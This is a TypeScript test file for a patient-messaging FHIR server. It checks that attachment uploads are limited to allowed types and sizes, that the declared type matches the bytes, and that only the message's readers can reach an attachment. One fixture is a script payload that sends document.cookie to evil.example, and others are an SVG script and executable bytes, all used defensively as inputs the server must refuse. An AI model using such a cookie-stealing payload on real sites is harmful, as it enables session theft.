/**
 * Message attachments through HTTP with real user tokens: the allowlist (PNG, JPEG, GIF,
 * PDF, plain text), the size limit (MAX_BINARY_BYTES, here 64 KiB), the declared type
 * checked against the bytes, and who reaches a Binary: exactly those who may read the
 * message it belongs to. Every refused upload is checked to have stored nothing.
 */
import type { Communication } from '@medplum/fhirtypes';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminRead, expectRefused, FHIR_JSON, header, message, post, ref, seedPractice, send } from './support/messaging.js';
import type { Agent, Practice } from './support/messaging.js';
import { startTestServer } from './support/server.js';
import type { TestServer } from './support/server.js';

const LIMIT = 64 * 1024;
const CONFIDENTIAL = { system: 'http://terminology.hl7.org/CodeSystem/v3-Confidentiality', code: 'R' };

const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('0000000d49484452000000010000000108060000001f15c489', 'hex')]);
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00]);
const GIF = Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1');
const TEXT = Buffer.from('Blood pressure log: 128/82, 131/85 — morning readings\n', 'utf8');
const SCRIPT = Buffer.from('<script>fetch("https://evil.example/"+document.cookie)</script>', 'utf8');
const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00, 0x00]);

let server: TestServer;
let p: Practice;
/** Alice's thread with her doctor. */
let thread: string;

beforeAll(async () => {
  server = await startTestServer({ env: { MAX_BINARY_BYTES: String(LIMIT) } });
  p = await seedPractice(server);
  thread = `Communication/${(await post(p.alice.request, header(p.patient, [p.doctor], 'test-results'))).id}`;
});

afterAll(async () => {
  await server?.stop({ dropDatabase: true });
});

/** A Binary upload as FHIR JSON, filed under `securityContext` (Alice's thread unless told; none with null). */
function upload(agent: Agent, contentType: string, data: Buffer, securityContext: string | null = thread) {
  return send(agent, 'post', 'Binary', { resourceType: 'Binary', contentType, ...(securityContext ? { securityContext: ref(securityContext) } : {}), data: data.toString('base64') });
}

function rawUpload(agent: Agent, contentType: string, data: Buffer) {
  return agent.post('/fhir/Binary').set('content-type', contentType).send(data);
}

/** The bytes of a Binary as served (its own content type), or the status when refused. */
async function download(agent: Agent, binary: string): Promise<{ status: number; type?: string; bytes?: Buffer }> {
  const res = await agent
    .get(`/fhir/${binary}`)
    .buffer(true)
    .parse((response, done) => {
      const chunks: Buffer[] = [];
      response.on('data', (c: Buffer) => chunks.push(c));
      response.on('end', () => done(null, Buffer.concat(chunks)));
    });
  return { status: res.status, type: res.headers['content-type'], bytes: res.status === 200 ? (res.body as Buffer) : undefined };
}

describe('the attachment allowlist', () => {
  it('stores PNG, JPEG, GIF, PDF and plain text (201) and serves the same bytes back', async () => {
    for (const [type, bytes] of [
      ['image/png', PNG],
      ['image/jpeg', JPEG],
      ['image/gif', GIF],
      ['application/pdf', PDF],
      ['text/plain; charset=utf-8', TEXT],
    ] as const) {
      const res = await upload(p.alice.request, type, bytes);
      expect(res.status, `${type}: ${JSON.stringify(res.body)}`).toBe(201);
      const served = await download(p.alice.request, `Binary/${res.body.id}`);
      expect(served.status).toBe(200);
      expect(served.type).toContain(type.split(';')[0]);
      expect(served.bytes!.equals(bytes)).toBe(true);
    }
  });

  it('refuses content over the size limit with 413, as JSON or raw bytes, storing nothing', async () => {
    const atLimit = Buffer.concat([PNG, Buffer.alloc(LIMIT - PNG.length)]);
    expect((await upload(p.alice.request, 'image/png', atLimit)).status).toBe(201);
    const over = Buffer.concat([atLimit, Buffer.alloc(1)]);
    await expectRefused(server, 413, () => upload(p.alice.request, 'image/png', over));
    await expectRefused(server, 413, () => upload(p.doctorToken.request, 'application/pdf', Buffer.concat([PDF, Buffer.alloc(LIMIT)])));
    await expectRefused(server, 413, () => rawUpload(p.alice.request, 'image/png', over));
  });

  it('refuses content that is not what it claims, or of a type not allowed (422), storing nothing', async () => {
    for (const [type, bytes] of [
      ['image/png', SCRIPT],
      ['image/png', JPEG],
      ['image/jpeg', PDF],
      ['application/pdf', PNG],
      ['image/gif', TEXT],
      ['text/plain', ELF],
      ['text/plain', Buffer.from([0xc3, 0x28, 0xa0, 0xa1])],
      ['image/png', Buffer.alloc(0)],
      ['text/html', Buffer.from('<p>hello</p>')],
      ['application/javascript', SCRIPT],
      ['image/svg+xml', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
      ['application/octet-stream', ELF],
    ] as const) {
      await expectRefused(server, 422, () => upload(p.alice.request, type, bytes));
    }
    await expectRefused(server, 422, () => upload(p.rep.request, 'image/png', SCRIPT));
    await expectRefused(server, 422, () => upload(p.doctorToken.request, 'image/png', SCRIPT));
    await expectRefused(server, 422, () => rawUpload(p.alice.request, 'image/png', SCRIPT));
  });
});

describe('who reaches an attachment', () => {
  it('exactly those who may read the message: the patient, her representative, her doctor — not another patient', async () => {
    const binary = await upload(p.alice.request, 'image/png', PNG);
    expect(binary.status).toBe(201);
    const attachment = `Binary/${binary.body.id}`;
    const sent = await post(
      p.alice.request,
      message(p.patient, thread, 'Photo of the rash', { payload: [{ contentString: 'Photo of the rash' }, { contentAttachment: { contentType: 'image/png', url: attachment } }] })
    );
    const messageRef = `Communication/${sent.id}`;
    for (const agent of [p.alice.request, p.rep.request, p.doctorToken.request]) {
      expect((await agent.get(`/fhir/${messageRef}`)).status).toBe(200);
      const served = await download(agent, attachment);
      expect(served.status).toBe(200);
      expect(served.bytes!.equals(PNG)).toBe(true);
    }
    expect((await p.bob.request.get(`/fhir/${messageRef}`)).status).toBe(404);
    expect((await download(p.bob.request, attachment)).status).toBe(404);
    expect((await p.bob.request.get(`/fhir/${attachment}`).set('accept', FHIR_JSON)).status).toBe(404);

    // The doctor's attachment on a reply reaches the patient.
    const report = await upload(p.doctorToken.request, 'application/pdf', PDF);
    expect(report.status).toBe(201);
    await post(
      p.doctorToken.request,
      message(p.patient, thread, 'Your results', { payload: [{ contentString: 'Your results' }, { contentAttachment: { contentType: 'application/pdf', url: `Binary/${report.body.id}` } }] })
    );
    expect((await download(p.alice.request, `Binary/${report.body.id}`)).bytes!.equals(PDF)).toBe(true);
    expect((await download(p.bob.request, `Binary/${report.body.id}`)).status).toBe(404);
  });

  it('cannot be filed under another patient’s message', async () => {
    await expectRefused(server, [403, 404], () => upload(p.alice.request, 'image/png', PNG, p.otherThread));
    await expectRefused(server, [403, 404], () => upload(p.alice.request, 'image/png', PNG, p.otherPatient));
  });

  it('of a confidential message is hidden from the representative, like the message', async () => {
    const secret = await post(p.alice.request, { ...header(p.patient, [p.doctor], 'medical-question'), meta: { security: [CONFIDENTIAL] } } as Communication);
    const secretThread = `Communication/${secret.id}`;
    expect((await adminRead<Communication>(server, secretThread)).meta?.security).toContainEqual(expect.objectContaining(CONFIDENTIAL));
    const binary = await upload(p.alice.request, 'text/plain', TEXT, secretThread);
    expect(binary.status).toBe(201);
    expect((await p.rep.request.get(`/fhir/${secretThread}`)).status).toBe(404);
    expect((await download(p.rep.request, `Binary/${binary.body.id}`)).status).toBe(404);
    expect((await download(p.alice.request, `Binary/${binary.body.id}`)).status).toBe(200);
    expect((await download(p.doctorToken.request, `Binary/${binary.body.id}`)).status).toBe(200);
  });

  it('must name where it belongs: a patient’s upload without a security context is refused (403), storing nothing', async () => {
    await expectRefused(server, 403, () => upload(p.alice.request, 'image/png', PNG, null), /does not reach/);
    await expectRefused(server, 403, () => rawUpload(p.alice.request, 'image/png', PNG), /does not reach/);
  });
});
